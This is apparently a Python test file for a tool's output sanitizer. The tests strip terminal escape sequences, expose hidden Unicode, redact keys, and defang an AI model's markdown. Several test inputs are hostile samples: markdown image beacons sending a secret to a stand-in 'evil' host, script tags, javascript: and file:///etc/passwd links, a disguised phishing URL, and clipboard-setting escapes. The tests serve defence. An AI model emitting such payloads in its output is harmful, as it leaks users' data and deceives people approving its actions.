"""Text on its way out: nothing hidden, nothing that acts (C-18, C-19, C-23)."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from turnstone_lsp.process.text import Terminal, clean, is_visible, last_of_line, redact, safe_markdown, visible

ESC = "\x1b"


@pytest.mark.parametrize(
    ("raw", "plain"),
    [
        (f"{ESC}[31mred{ESC}[0m", "red"),
        (f"{ESC}[8mhidden{ESC}[0m", "hidden"),
        (f"a{ESC}]0;title\x07b", "ab"),
        (f"a{ESC}]52;c;aGk={ESC}\\b", "ab"),  # OSC 52 sets the clipboard
        (f"{ESC}]8;;http://x{ESC}\\link{ESC}]8;;{ESC}\\", "link"),  # OSC 8 fakes a link
        (f"a{ESC}Pdata{ESC}\\b", "ab"),
        ("a\x9b31mb", "ab"),
        ("a\x9d0;t\x9cb", "ab"),
        (f"a{ESC}(Bb{ESC}7c{ESC}=d", "abcd"),
        (f"a{ESC}]0;never ended\nnext", "a\nnext"),
        (f"a{ESC}", "a"),
        ("a\x07\x08b\x7fc\x85d", "bcd"),
        ("N\x08NA\x08A_\x08_", "NA_"),  # man's overstrikes
        ("a\0b", "a\nb"),
        ("tab\tstays\r\n", "tab\tstays\n"),
        ("10%\r50%\r100%\ndone", "100%\ndone"),
        ("x\u202ey\u2066z", "x\\u{202e}y\\u{2066}z"),
        ("tag\U000e0041", "tag\\u{e0041}"),
        ("\ufeffbom zero\u200bwidth", "\\u{feff}bom zero\\u{200b}width"),
        ("👩\u200d💻 naïve 日本語 \u0645\u06cc\u200c\u062e", "👩\u200d💻 naïve 日本語 \u0645\u06cc\u200c\u062e"),
    ],
)
def test_output_becomes_plain_text(raw: str, plain: str) -> None:
    assert clean(raw) == plain


_PIECES = st.lists(
    st.sampled_from(
        [ESC, "[", "31", "m", "]", "0;t", "\x07", "\\", "\x9b", "\x9c", "P", "\n", "a", "é", "😀", "(", "B", " "]
    ),
    max_size=40,
)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(_PIECES)
def test_cutting_it_in_pieces_changes_nothing(pieces: list[str]) -> None:
    whole, parts = Terminal(), Terminal()
    assert "".join(parts.feed(piece) for piece in pieces) == whole.feed("".join(pieces))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text())
def test_cleaned_text_holds_no_control_character(text: str) -> None:
    assert all(c in "\n\t" or unicodedata.category(c) != "Cc" for c in clean(text))
    assert clean(clean(text)) == clean(text)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text())
def test_visible_shows_everything_and_removes_nothing(text: str) -> None:
    shown = visible(text)
    assert all(is_visible(c) for c in shown)
    if "\\" not in text:
        back = re.sub(r"\\u\{([0-9a-f]+)\}", lambda m: chr(int(m[1], 16)), shown)
        assert back.replace("\\n", "\n").replace("\\t", "\t").replace("\\r", "\r") == text


def test_what_an_approval_shows() -> None:
    assert visible("ls\x1b[8m; x\u202e\u00a0\u200d\U000e0041") == ("ls\\u{1b}[8m; x\\u{202e}\\u{a0}\\u{200d}\\u{e0041}")
    assert visible("a\n\tb", keep="\n\t") == "a\n\tb"
    assert visible("a\nb") == "a\\nb"
    assert visible("\ud800\ufe01\ue000") == "\\u{d800}\\u{fe01}\\u{e000}"


def test_a_line_with_carriage_returns() -> None:
    assert last_of_line("plain") == "plain"
    assert last_of_line("1\r2\r") == "2"
    assert last_of_line("\r\r") == ""


def test_known_keys_are_blackened() -> None:
    assert redact("key sk-abcdefgh and sk-abcdefgh-long", ["sk-abcdefgh-long", "sk-abcdefgh"]) == (
        "key [key removed] and [key removed]"
    )
    assert redact("nothing", ["", "sk-abcdefgh"]) == "nothing"


@pytest.mark.parametrize(
    ("markdown", "safe"),
    [
        ("plain *text*", "plain *text*"),
        ("![pixel](https://evil/?d=secret)", "[pixel](https://evil/?d=secret) (https://evil/?d=secret)"),
        ("![](https://evil/x.png)", "[](https://evil/x.png) (https://evil/x.png)"),
        ("<img src=https://evil/x>", "&lt;img src=https://evil/x>"),
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("<!-- hidden -->", "&lt;!-- hidden -->"),
        ("a < b and 1<2", "a < b and 1<2"),
        ("<https://example.com>", "https://example.com"),
        ("[docs](https://example.com/a)", "[docs](https://example.com/a) (https://example.com/a)"),
        ("[https://a.com](https://a.com)", "[https://a.com](https://a.com)"),
        ("[run](command:workbench.action)", "run (command:workbench.action)"),
        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
        ("[x](file:///etc/passwd)", "x (file:///etc/passwd)"),
        ("[bank](https://bank.com@evil.com)", "bank (https://bank.com@evil.com)"),
        ("[ref]: https://evil/x", "\\[ref]: https://evil/x"),
        ("`<b>` and `![x](y)`", "`<b>` and `![x](y)`"),
        ("```html\n<b>![x](y)</b>\n```\n<b>", "```html\n<b>![x](y)</b>\n```\n&lt;b>"),
        ("~~~\n```\n<b>\n~~~\n<i>", "~~~\n```\n<b>\n~~~\n&lt;i>"),
        ("a\u202eb", "a\\u{202e}b"),
    ],
)
def test_the_model_s_markdown_is_data(markdown: str, safe: str) -> None:
    """C-19: no images, no raw HTML, links only http(s) with their full target."""
    assert safe_markdown(markdown) == safe


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.lists(
        st.sampled_from(["!", "[", "]", "(", ")", "<", "img", ">", "http://x", " ", "\\", "a", ":", "\n"]), max_size=30
    )
)
def test_no_image_and_no_tag_survives(pieces: list[str]) -> None:
    safe = safe_markdown("".join(pieces))
    assert not re.search(r"!\[[^\]]*\]\(", safe)
    assert not re.search(r"<[A-Za-z/!?]", safe)
